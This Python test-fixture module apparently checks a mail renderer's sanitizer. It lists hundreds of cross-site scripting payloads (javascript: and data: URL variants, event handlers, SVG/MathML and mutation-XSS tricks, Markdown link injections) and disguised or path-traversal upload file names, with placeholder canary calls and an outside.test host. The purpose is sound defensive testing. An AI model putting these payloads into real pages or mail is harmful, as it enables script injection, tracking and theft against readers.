# ruff: noqa: E501 - each line is one way in
"""What a stranger may try to have a reader's browser do: scripts, links, pictures and styles, in every place of a mail.

`canary('…')` is what would be called, `outside.test` what would be asked. Each stands for a way in, none was found
elsewhere.
"""

from __future__ import annotations

CALL = "canary('x')"
HERE = "//outside.test/p"

SCHEMES = (
    "javascript:{c}", "JAVASCRIPT:{c}", "jAvAsCrIpT:{c}", " javascript:{c}", "\tjavascript:{c}", "java\tscript:{c}",
    "java\nscript:{c}", "java\r\nscript:{c}", "javascript&colon;{c}", "&#106;avascript:{c}", "&#x6A;avascript:{c}",
    "&#0000106avascript:{c}", "javascript&#58;{c}", "javascript&#x3a;{c}", "java&Tab;script:{c}",
    "java&NewLine;script:{c}", "\x01javascript:{c}", "\u00a0javascript:{c}", "\u2028javascript:{c}",
    "javascript://x.test/%0a{c}", "javascript:void%280%29;{c}", "vbscript:{c}", "VbScRiPt:{c}", "livescript:{c}",
    "data:text/html,<script>{c}</script>", "data:text/html;base64,PHNjcmlwdD5jYW5hcnkoJ3gnKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload=\"{c}\"/>", "DATA:text/html,{c}",
    "data&colon;text/html,<script>{c}</script>", "blob:http://127.0.0.1/x", "filesystem:http://127.0.0.1/x",
    "view-source:javascript:{c}", "feed:javascript:{c}", "jar:javascript:{c}!/", "x-javascript:{c}", "file:///etc/passwd",
    "//outside.test/p", "/\\outside.test/p", "\\\\outside.test\\p", "http:outside.test", "///outside.test",
)  # fmt: skip

TAGS = (
    "<script>{c}</script>", "<SCRIPT SRC={h}></SCRIPT>", "<script/x>{c}</script>", "<scr<script>ipt>{c}</scr</script>ipt>",
    "<script\x00>{c}</script>", "<script>{c}//", "<<script>{c}//<</script>", "<script type=module>{c}</script>",
    "<img src=x onerror={c}>", "<img/src=x/onerror={c}>", "<img src={h}>", "<img srcset='{h} 2x'>", "<img lowsrc={h}>",
    "<image src={h} onerror={c}>", "<picture><source srcset={h}><img src=y onerror={c}></picture>",
    "<svg onload={c}>", "<svg/onload={c}>", "<svg><script>{c}</script></svg>", "<svg><script href={h} /></svg>",
    "<svg><animate onbegin={c} attributeName=x dur=1s>", "<svg><set attributeName=href to=javascript:{c}><a>x</a></svg>",
    "<svg><a xlink:href='javascript:{c}'><text y=20>x</text></a></svg>", "<svg><use href='{h}#x'></svg>",
    "<svg><image href={h} /></svg>", "<svg><foreignObject><iframe srcdoc='<script>{c}</script>'></foreignObject></svg>",
    "<svg><style>@import '{h}';</style></svg>", "<svg><discard onbegin={c}>", "<svg><feImage href={h}></svg>",
    "<math><mtext><script>{c}</script></mtext></math>", "<math href='javascript:{c}'>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:{c}>x</maction></math>",
    "<iframe src={h}></iframe>", "<iframe srcdoc='<script>parent.{c}</script>'></iframe>",
    "<iframe src='javascript:parent.{c}'></iframe>", "<frameset onload={c}><frame src={h}></frameset>",
    "<object data={h}></object>", "<object data='javascript:{c}'></object>", "<embed src={h}>",
    "<embed src='data:image/svg+xml,<svg onload={c}>'>", "<applet code={h}></applet>", "<portal src={h}></portal>",
    "<body onload={c}>", "<body background={h}>", "<body onpageshow={c}>", "<html onmouseover={c}>x",
    "<a href=x onclick={c}>x</a>", "<a href=x onmouseover={c}>x</a>", "<a ping={h} href=x>x</a>", "<a onfocus={c} autofocus tabindex=1>x</a>",
    "<input autofocus onfocus={c}>", "<input type=image src={h} formaction=javascript:{c}>", "<button formaction=javascript:{c}>x</button>",
    "<form action=javascript:{c}><input type=submit></form>", "<form action={h}><button>x</button></form>", "<isindex action=javascript:{c}>",
    "<select onfocus={c} autofocus><option>x</select>", "<textarea autofocus onfocus={c}>x</textarea>", "<keygen autofocus onfocus={c}>",
    "<video src={h} onloadstart={c}></video>", "<video poster={h}></video>", "<audio src={h} onerror={c}></audio>",
    "<video><source onerror={c}></video>", "<track src={h}>", "<bgsound src={h}>", "<details open ontoggle={c}>x</details>",
    "<marquee onstart={c}>x</marquee>", "<meter onmouseover={c}>x</meter>", "<dialog open oncancel={c}>x</dialog>",
    "<link rel=stylesheet href={h}>", "<link rel=prefetch href={h}>", "<link rel=dns-prefetch href={h}>", "<link rel=preload as=image href={h}>",
    "<style>body{{background:url({h})}}</style>", "<style>@import '{h}'</style>", "<style><img src=x onerror={c}></style>",
    "<p style='background:url({h})'>x</p>", "<p style='behavior:url({h})'>x</p>", "<p style=\"width:expression({c})\">x</p>",
    "<p style='position:fixed;top:0;left:0;width:100%;height:100%'>over all</p>", "<font face='x' style=\"content:url({h})\">x</font>",
    "<meta http-equiv=refresh content='0;url={h}'>", "<meta http-equiv=refresh content=\"0;url=javascript:{c}\">",
    "<meta http-equiv=set-cookie content='a=b'>", "<base href={h}>", "<base target=_self href='javascript:{c}//'>",
    "<table background={h}><td background={h}>x</table>", "<xml src={h}></xml>", "<xss onpointerenter={c} style=display:block>x</xss>",
    "<div onanimationstart={c} style='animation:x 1s'>x</div>", "<div ontransitionend={c}>x</div>", "<template><script>{c}</script></template>",
    "<slot onslotchange={c}></slot>", "<!--><script>{c}</script>-->", "<!--[if gte IE 4]><script>{c}</script><![endif]-->",
    "<![CDATA[<script>{c}</script>]]>", "<?xml-stylesheet href={h}?>", "<!DOCTYPE x [<!ENTITY y SYSTEM '{h}'>]>&y;",
    "</article></main></body><script>{c}</script>", "</title><script>{c}</script>", "</textarea><script>{c}</script>",
    "</style><script>{c}</script>", "--><script>{c}</script>", "\"><script>{c}</script>", "'><img src=x onerror={c}>",
    "\" onmouseover={c} x=\"", "' autofocus onfocus={c} x='", "`onmouseover={c}`",
)  # fmt: skip

MUTATIONS = (
    "<noscript><p title=\"</noscript><img src=x onerror={c}>\">", "<math><mi//xlink:href=\"data:x,<script>{c}</script>\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror={c}>\">", "<math></p><style><!--</style><img src=x onerror={c}>--></style></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={c}>", "<table><tr><td><svg><desc><td></svg><img src=x onerror={c}>",
    "<select><template><style><!--</style><a rel=\"--></style></template></select><img src=x onerror={c}>\">",
    "<svg><title><![CDATA[</title><img src=x onerror={c}>]]></svg>", "<xmp><p title=\"</xmp><img src=x onerror={c}>\"></xmp>",
    "<plaintext><img src=x onerror={c}>", "<noembed><img title=\"</noembed><img src=x onerror={c}>\"></noembed>",
    "<listing>&lt;img onerror={c} src=x&gt;</listing>", "<p>&lt;img src=x onerror={c}&gt;</p>", "<p>&amp;lt;script&amp;gt;{c}&amp;lt;/script&amp;gt;</p>",
    "<a href=\"x&quot; onmouseover=&quot;{c}\">x</a>", "<a title='&quot;&gt;&lt;script&gt;{c}&lt;/script&gt;' href=http://a.test>x</a>",
    "<img alt='` onerror={c} `' src=x>", "<img alt=\"</p><script>{c}</script>\" src=cid:none>", "<b><i></b><script>{c}</script></i>",
    "<svg><p><style><g title=\"</style><img src=x onerror={c}>\">", "<blockquote cite=javascript:{c}>x</blockquote>", "<q cite={h}>x</q>",
    "<math><annotation-xml encoding=\"text/html\"><img src=x onerror={c}></annotation-xml></math>", "\u003cimg src=x onerror={c}\u003e",
    "+ADw-script+AD4-{c}+ADw-/script+AD4-", "\uff1cscript\uff1e{c}\uff1c/script\uff1e", "%3Cscript%3E{c}%3C/script%3E", "<\u017fcript>{c}</\u017fcript>",
)  # fmt: skip

MARKDOWN = (
    "[x]({s})", "![x]({s})", "[x](<{s}>)", "<{s}>", "[x]: {s}\n\n[x]", "[![x]({s})]({s})", "[x](http://a.test '\" onclick={c} x=\"')",
    "![\" onerror={c} x=\"](http:{h})", "![x](http:{h})", "![x]({h})", "[{t}](http://a.test)", "`{t}`", "```\n{t}\n```", "# {t}", "| {t} |\n|---|\n| {t} |",
    "> {t}", "~~{t}~~", "**{t}**", "1. {t}", "http://a.test/{t}", "http://a.test/\"onmouseover={c}//", "www.a.test/<script>{c}</script>",
    "\"{t}\"@a.test", "mailto:\"{t}\"@a.test", "ftp://a.test/'{t}'", "![x](cid:a\" onerror=\"{c})", "[x](cid:a)", "&#60;script&#62;{c}&#60;/script&#62;",
    "\\<script>{c}\\</script>", "[x](http://a.test/?q={t})", "[a](javascript:{c} 'x')", "*[x](vbscript:{c})*", "<a href=\"javascript:{c}\">x</a>",
)  # fmt: skip

FILES = (
    ("p.svg", "image/svg+xml", "<svg xmlns='http://www.w3.org/2000/svg' onload=\"{c}\"><script>{c}</script><image href='http:{h}'/></svg>"),
    ("p.html", "text/html", "<script>{c};fetch('http:{h}')</script><img src='http:{h}'>"),
    ("p.xhtml", "application/xhtml+xml", "<html xmlns='http://www.w3.org/1999/xhtml'><script>{c}</script></html>"),
    ("p.xml", "text/xml", "<?xml-stylesheet href='http:{h}'?><x xmlns:h='http://www.w3.org/1999/xhtml'><h:script>{c}</h:script></x>"),
    ("p.png", "image/png", "<html><script>{c}</script>"), ("p.gif", "image/gif", "GIF89a/*<script>{c}</script>*/=1;{c}"),
    ("p.jpg", "image/jpeg", "\xff\xd8\xff<script>{c}</script>"), ("p.css", "text/css", "@import 'http:{h}';body{{background:url(http:{h})}}"),
    ("p.js", "text/javascript", "{c}"), ("p.pdf", "application/pdf", "%PDF-1.4 <script>{c}</script>"), ("p.swf", "application/x-shockwave-flash", "FWS{c}"),
    ("p.ics", "text/calendar", "BEGIN:VCALENDAR\nURL:javascript:{c}\nEND:VCALENDAR"), ("p.vcf", "text/vcard", "BEGIN:VCARD\nPHOTO;VALUE=uri:http:{h}\nEND:VCARD"),
    ("p.htc", "text/x-component", "<script>{c}</script>"), ("p.mht", "message/rfc822", "Content-Type: text/html\n\n<script>{c}</script>"),
    ("p.webmanifest", "application/manifest+json", "{{}}"), ("<img src=x onerror=canary()>.png", "image/png", "x"), ("\"onload=canary() x=\".gif", "image/gif", "GIF89a"),
    ("../../../p.html", "text/html", "<script>{c}</script>"), ("a\u202egnp.html", "text/html", "<script>{c}</script>"), ("p.svg\x00.png", "image/png", "<svg onload={c}>"),
    ("javascript:canary()", "text/plain", "x"), ("//outside.test/p.png", "image/png", "x"), ("p.html?.png", "text/html", "<script>{c}</script>"),
    ("%2e%2e%2fp.html", "text/html", "<script>{c}</script>"), ("p.webp", "image/webp", "RIFF____WEBP<script>{c}</script>"),
)  # fmt: skip


def filled(pattern: str, scheme: str = SCHEMES[0]) -> str:
    """A pattern with what it would call, ask and link to."""
    link = scheme.format(c=CALL)
    tag = TAGS[0].format(c=CALL, h=HERE)
    return pattern.format(c=CALL, h=HERE, s=link, t=tag)


HTML = [
    *(filled(tag) for tag in (*TAGS, *MUTATIONS)),
    *(f'<p>a <a href="{filled("{s}", scheme)}">link</a> <img src="{filled("{s}", scheme)}" alt=x></p>' for scheme in SCHEMES),
]  # fmt: skip
TEXT = [
    *(filled(tag) for tag in TAGS),
    *(filled(mark) for mark in MARKDOWN),
    *(filled(mark, scheme) for scheme in SCHEMES for mark in MARKDOWN[:3]),
]
SHORT = [each for each in map(filled, (*TAGS, *MUTATIONS)) if len(each) < 70 and "\n" not in each]
"""What fits into a subject, a name or a title."""
